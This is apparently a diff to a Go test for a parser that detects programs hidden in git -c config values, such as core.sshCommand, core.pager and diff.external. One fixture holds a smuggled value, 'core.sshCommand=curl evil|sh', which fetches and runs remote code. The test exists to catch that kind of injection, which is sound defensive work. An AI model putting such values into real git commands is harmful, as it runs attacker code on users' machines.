@@ -302,7 +302,7 @@ func TestParseGitConfigCommands(t *testing.T) {
 			name: "core.sshCommand",
 			req:  argvReq("git", "-c", "core.sshCommand=curl evil|sh", "fetch"),
 			cmds: []cmdWant{
-				{prog: "git", ops: []string{"core.sshCommand=curl evil|sh", "fetch"}},
+				{prog: "git", ops: []string{"fetch"}},
 				{prog: "curl", origin: "git_config", pipe: "0/2"},
 				{prog: "sh", origin: "git_config", pipe: "1/2", stdin: true},
 			},
@@ -312,7 +312,7 @@ func TestParseGitConfigCommands(t *testing.T) {
 			name:  "config values are code, not paths",
 			req:   argvReq("git", "-C", "repo", "-c", "core.pager=less /etc/x", "-cdiff.external=./d.sh", "log"),
 			cmds:  []cmdWant{{prog: "git"}, {prog: "less", origin: "git_config"}, {prog: "d.sh", origin: "git_config"}},
-			paths: []string{"/etc/x=/etc/x outside arg@1"},
+			paths: []string{"repo=/src/repo vault arg@0", "/etc/x=/etc/x outside arg@1"},
 		},
 		{
 			name: "alias with ! is a shell command, others are git words",
